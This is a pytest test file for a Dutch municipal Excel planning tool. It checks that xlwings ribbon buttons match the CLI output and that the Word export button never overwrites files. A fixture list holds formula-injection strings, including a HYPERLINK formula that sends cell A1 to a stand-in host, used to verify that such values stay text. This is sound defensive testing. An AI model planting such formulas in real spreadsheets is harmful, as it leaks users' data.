"""A button and the CLI can never disagree: each ribbon button, run on xlwings' remote engine,
gives the same workbook content as the matching CLI command on the same file.

File -> the JSON payload an xlwings client sends -> ``xw.Book(json=...)`` -> the button ->
``book.json()`` actions -> replayed onto a copy of the file -> compared with the CLI's output.
"""

from __future__ import annotations

import datetime as dt

import pytest
from openpyxl import load_workbook

from mvo_xl import excel
from mvo_xl.cli import main
from tests.builders import variant, write_workbook
from tests.xlwings_remote import apply_actions, ensure_remote_engine, payload_from_file

xw = pytest.importorskip("xlwings")

HOSTILE_TEXTS = ['=HYPERLINK("http://example.invalid/?x="&A1,"klik hier")', "+32 fietsenstallingen",
                 "-20% energie", "@gemeente meer bomen", "=1+1"]

BUTTONS = {
    "group": (excel.group_wishes, lambda src, out: ["group", str(src), "-o", str(out)]),
    "validate": (excel.validate, lambda src, out: ["validate", str(src), "--schrijf", str(out), "-q"]),
    "plan": (excel.make_plan, lambda src, out: ["plan", str(src), "-o", str(out)]),
}


@pytest.fixture(autouse=True)
def _license(monkeypatch):
    monkeypatch.setenv("XLWINGS_LICENSE_KEY", "noncommercial")
    ensure_remote_engine()


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    path = tmp_path_factory.mktemp("demo") / "demo.xlsx"
    assert main(["demo", str(path), "-q"]) == 0
    return path


def hostile_workbook(path):
    content = variant()
    for wish, text in zip(content["wishes"], HOSTILE_TEXTS):
        wish["Droombeeld"] = text
        wish["Groep"] = wish["Groepslabel"] = ""
    content["actions"][0]["Actie"] = HOSTILE_TEXTS[0]
    content["objectives"][0]["Doelstelling"] = "=SOM(A1:A9) fietsroutes naar elke school tegen 2029"
    return write_workbook(path, content)


def outputs_in_capitals(src, path):
    """The demo (every output sheet made) with its output sheets renamed by the user in capitals."""
    from mvo_xl import contract

    wb = load_workbook(src)
    for name in contract.OUTPUT_SHEETS:
        wb[name].title = "tijdelijk"  # openpyxl, like Excel, refuses a name that differs only in case
        wb["tijdelijk"].title = name.upper()
    wb.save(path)
    assert {n.upper() for n in contract.OUTPUT_SHEETS} <= set(load_workbook(path).sheetnames)
    return path


def error_values(path):
    """Error values in table cells: #N/A for an author (a VLOOKUP that found nothing), #REF! for a wish."""
    wb = load_workbook(write_workbook(path))
    ws = wb["Droombeelden"]
    ws["D3"] = "#N/A"
    ws["C5"] = "#REF!"
    assert ws["D3"].data_type == ws["C5"].data_type == "e"
    wb.save(path)
    return path


def _plain(value):
    if isinstance(value, dt.datetime) and value.time() == dt.time():
        return value.date()
    if value == "":
        return None
    if isinstance(value, float) and value.is_integer():
        return int(value)
    return value


def content(path) -> dict:
    """Values and cell types of every visible sheet: what a user sees and copies."""
    wb = load_workbook(path)
    out = {}
    for ws in wb.worksheets:
        if ws.sheet_state != "visible":
            continue
        rows = [[(_plain(c.value), c.data_type == "f") for c in row] for row in ws.iter_rows()]
        while rows and all(v is None for v, _ in rows[-1]):
            rows.pop()
        width = max((i + 1 for r in rows for i, (v, _) in enumerate(r) if v is not None), default=0)
        out[ws.title] = [r[:width] + [(None, False)] * (width - len(r)) for r in rows]
    return out


def run_button(button, src, out):
    book = xw.Book(json=payload_from_file(src))
    button(book)
    actions = book.json()["actions"]
    return apply_actions(src, actions, out)


@pytest.mark.parametrize("step", sorted(BUTTONS))
@pytest.mark.parametrize("workbook", ["demo", "hostile", "rows_under", "totals_row", "own_table_under",
                                      "outputs_in_capitals", "error_values", "alt_enter_headers"])
def test_button_equals_cli(step, workbook, demo, tmp_path):
    from tests.hostile import (make_alt_enter_headers, make_own_table_right_under, make_rows_under_table,
                               make_totals_row)

    src = {"demo": lambda: demo, "hostile": lambda: hostile_workbook(tmp_path / "hostile.xlsx"),
           "rows_under": lambda: make_rows_under_table(tmp_path / "eronder.xlsx", keep=2),
           # a totals row is no wish, and a wish typed under it is named, never taken (nor written into)
           "totals_row": lambda: make_totals_row(tmp_path / "totaalrij.xlsx"),
           # a table never grows into the user's own table right under it
           "own_table_under": lambda: make_own_table_right_under(tmp_path / "eigen.xlsx"),
           # Excel compares sheet names without case: 'GROEPEN' is the tool's Groepen, never a second one
           "outputs_in_capitals": lambda: outputs_in_capitals(demo, tmp_path / "hoofdletters.xlsx"),
           # a cell that shows #N/A or #REF! is named (the CLI's MVO043), on the button too
           "error_values": lambda: error_values(tmp_path / "fouten.xlsx"),
           # headers typed with Alt+Enter ('Groep_x000a_(handmatig)' in the table part)
           "alt_enter_headers": lambda: make_alt_enter_headers(tmp_path / "altenter.xlsx")}[workbook]()
    button, cli_args = BUTTONS[step]
    cli_out, button_out = tmp_path / "cli.xlsx", tmp_path / "button.xlsx"
    main(cli_args(src, cli_out))
    run_button(button, src, button_out)
    expected, actual = content(cli_out), content(button_out)
    assert sorted(actual) == sorted(expected)
    for sheet in expected:
        assert actual[sheet] == expected[sheet], f"{step} on {workbook}: sheet {sheet} differs"
    given = content(src)
    for sheet in actual:  # no formula but the user's own (the totals row's SUBTOTAL)
        formulas = {(r, c) for r, row in enumerate(actual[sheet]) for c, (_v, f) in enumerate(row) if f}
        assert formulas <= {(r, c) for r, row in enumerate(given.get(sheet, [])) for c, (_v, f) in enumerate(row)
                            if f}, sheet


def test_hostile_text_stays_text_after_every_button(tmp_path):
    src = hostile_workbook(tmp_path / "in.xlsx")
    current = src
    for i, step in enumerate(("group", "validate", "plan")):
        nxt = tmp_path / f"stap{i}.xlsx"
        run_button(BUTTONS[step][0], current, nxt)
        current = nxt
    texts = set()
    for ws in load_workbook(current).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                texts.add(cell.value)
    assert set(HOSTILE_TEXTS) <= texts


def test_a_user_error_becomes_a_dutch_message_box(tmp_path):
    from openpyxl import Workbook

    path = tmp_path / "vreemd.xlsx"
    wb = Workbook()
    wb.active.title = "Blad1"
    wb.save(path)
    book = xw.Book(json=payload_from_file(path))
    excel.validate(book)
    alerts = [a for a in book.json()["actions"] if a["func"] == "alert"]
    assert len(alerts) == 1
    assert "geen volledige MVO-werkmap" in str(alerts[0]["args"]) and "Droombeelden" in str(alerts[0]["args"])


def _desktop_book(path, fullname, monkeypatch):
    """A remote-engine book that answers like desktop Excel: a FullName (path or URL) and no remote engine."""
    from mvo_xl.excel import buttons

    book = xw.Book(json=payload_from_file(path))
    monkeypatch.setattr(buttons, "is_remote", lambda _book: False)
    monkeypatch.setattr(type(book), "fullname", property(lambda _self: str(fullname)))
    return book


def _alerts(book) -> list[str]:
    return [str(a["args"]) for a in book.json()["actions"] if a["func"] == "alert"]


def _paragraphs(path) -> list[tuple[str, str]]:
    from docx import Document

    return [(p.style.name, p.text) for p in Document(str(path)).paragraphs]


def test_plan_as_word_chapter_next_to_the_workbook(demo, tmp_path, monkeypatch):
    """The button writes <book>_actieplan.docx beside a saved workbook, the same chapter as the CLI."""
    from mvo_xl.io.reader import read_workbook
    from mvo_xl.plan import make_plan

    book = xw.Book(json=payload_from_file(demo))
    excel.make_plan_docx(book)  # the remote engine (xlwings Server/Lite) has no folder on the user's PC
    alerts = _alerts(book)
    assert len(alerts) == 1 and "--format docx" in alerts[0]
    assert list(tmp_path.iterdir()) == []

    book = _desktop_book(demo, tmp_path / "traject.xlsx", monkeypatch)
    excel.make_plan_docx(book)
    written = tmp_path / f"{demo.stem}_actieplan.docx"
    assert sorted(p.name for p in tmp_path.iterdir()) == [written.name]  # atomic: no temp file left
    cli = tmp_path / "cli" / "cli.docx"
    cli.parent.mkdir()
    main(["plan", str(demo), "--format", "docx", "-o", str(cli), "-q"])
    assert _paragraphs(written) == _paragraphs(cli)
    assert ("Heading 1", "Duurzame mobiliteit") in _paragraphs(written)
    alerts = _alerts(book)
    assert len(alerts) == 1 and str(written) in alerts[0]
    assert ("onvolledig" in alerts[0]) == bool(make_plan(read_workbook(demo)).blocking)


def test_the_word_button_never_overwrites_a_file(demo, tmp_path, monkeypatch):
    """A second press keeps the first chapter (the user may have edited it in Word) and numbers the new one."""
    first = tmp_path / f"{demo.stem}_actieplan.docx"
    first.write_bytes(b"mijn bewerkte versie")
    (tmp_path / f"{demo.stem}_actieplan (2).docx").write_bytes(b"ook van mij")
    book = _desktop_book(demo, tmp_path / demo.name, monkeypatch)
    excel.make_plan_docx(book)
    assert first.read_bytes() == b"mijn bewerkte versie"
    assert (tmp_path / f"{demo.stem}_actieplan (2).docx").read_bytes() == b"ook van mij"
    third = tmp_path / f"{demo.stem}_actieplan (3).docx"
    assert ("Heading 1", "Duurzame mobiliteit") in _paragraphs(third)
    alerts = _alerts(book)
    assert len(alerts) == 1 and "bestond al en bleef ongewijzigd" in alerts[0] and third.name in alerts[0]


def test_the_word_button_on_onedrive_writes_to_documents(demo, tmp_path, monkeypatch):
    """AutoSave on OneDrive/SharePoint: FullName is a URL; it is not mapped, the file goes to Documents."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("USERPROFILE", str(tmp_path / "home"))
    documents = tmp_path / "home" / "Documents"
    documents.mkdir(parents=True)
    url = "https://gemeente.sharepoint.com/sites/MVO/Gedeelde%20documenten/traject.xlsm"
    book = _desktop_book(demo, url, monkeypatch)
    excel.make_plan_docx(book)
    assert [p.name for p in documents.iterdir()] == [f"{demo.stem}_actieplan.docx"]
    alerts = _alerts(book)
    assert len(alerts) == 1 and "OneDrive of SharePoint" in alerts[0] and "Documenten" in alerts[0]


def test_the_word_button_on_an_unsaved_or_unwritable_workbook_says_what_to_do(demo, tmp_path, monkeypatch):
    from mvo_xl.io import writer

    book = _desktop_book(demo, "Map1", monkeypatch)  # a new workbook, never saved
    excel.make_plan_docx(book)
    alerts = _alerts(book)
    assert len(alerts) == 1 and "Sla de werkmap eerst op" in alerts[0]

    def refuse(_data, _dest):
        raise PermissionError(13, "Toegang geweigerd")

    monkeypatch.setattr(writer, "atomic_write_bytes", refuse)
    book = _desktop_book(demo, tmp_path / demo.name, monkeypatch)
    excel.make_plan_docx(book)
    alerts = _alerts(book)
    assert len(alerts) == 1 and "kon niet geschreven worden" in alerts[0] and "Toegang geweigerd" in alerts[0]
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("url", [
    "https://gemeente-my.sharepoint.com/personal/zoe_gemeente_be/Documents/MVO traject/traject.xlsm",
    "https://d.docs.live.net/0123456789abcdef/Documenten/MVO/traject.xlsm",
    "https://gemeente.sharepoint.com/sites/MVO/Gedeelde documenten/traject.xlsm",
])
def test_the_word_button_when_xlwings_cannot_map_the_onedrive_url(demo, tmp_path, monkeypatch, url):
    """On Windows and macOS xlwings' ``Book.fullname`` does not return Excel's URL: it looks for the synced
    copy and raises (XlwingsError, or a NameError/TypeError in its SharePoint search) when there is none.
    The button must still write the chapter to Documents and say so in Dutch."""
    from xlwings.utils import fullname_url_to_local_path

    home = tmp_path / "home"
    (home / "Documents").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    for name in ("OneDrive", "OneDriveConsumer", "OneDriveCommercial"):
        monkeypatch.delenv(name, raising=False)
    book = _desktop_book(demo, "", monkeypatch)
    monkeypatch.setattr(type(book), "fullname", property(lambda _self: fullname_url_to_local_path(url)))
    excel.make_plan_docx(book)
    assert [p.name for p in (home / "Documents").iterdir()] == [f"{demo.stem}_actieplan.docx"]
    alerts = _alerts(book)
    assert len(alerts) == 1 and "OneDrive of SharePoint" in alerts[0] and "Er ging iets mis" not in alerts[0]


def test_a_button_that_must_refuse_writes_nothing(tmp_path):
    """A tool column renamed by the user ('Gelijkenis (0-100)'): the button says which column is missing
    before it writes anything, never after it filled Groep and Groepslabel and left Groepen stale."""
    from tests.hostile import make_alt_enter_headers

    src = make_alt_enter_headers(tmp_path / "hernoemd.xlsx", renamed=True)
    book = xw.Book(json=payload_from_file(src))
    excel.group_wishes(book)
    actions = book.json()["actions"]
    assert [a["func"] for a in actions] == ["alert"], [a["func"] for a in actions]
    assert "'Gelijkenis' ontbreekt" in str(actions[0]["args"]) and "Er ging iets mis" not in str(actions[0]["args"])


def test_a_table_on_a_sheet_named_like_an_output_sheet_is_never_wiped(tmp_path, capsys):
    """The user renamed the sheet Prioriteiten to 'DASHBOARD' (once Dashboard was gone): Maak actieplan
    would rebuild that sheet and wipe the votes. The CLI and the button both refuse, naming table and sheet."""
    from mvo_xl.io.reader import read_workbook

    src = write_workbook(tmp_path / "in.xlsx")
    wb = load_workbook(src)
    wb.remove(wb["Dashboard"])
    wb["Prioriteiten"].title = "DASHBOARD"
    wb.save(src)
    assert [f.code for f in read_workbook(src).problems] == ["MVO040"]
    capsys.readouterr()
    assert main(["plan", str(src), "-o", str(tmp_path / "uit.xlsx")]) == 1
    err = capsys.readouterr().err
    assert "tblPrioriteiten" in err and "DASHBOARD" in err and "Prioriteiten" in err, err
    assert not (tmp_path / "uit.xlsx").exists()
    book = xw.Book(json=payload_from_file(src))
    excel.make_plan(book)
    actions = book.json()["actions"]
    assert [a["func"] for a in actions] == ["alert"], [a["func"] for a in actions]
    assert "tblPrioriteiten" in str(actions[0]["args"]) and "DASHBOARD" in str(actions[0]["args"])
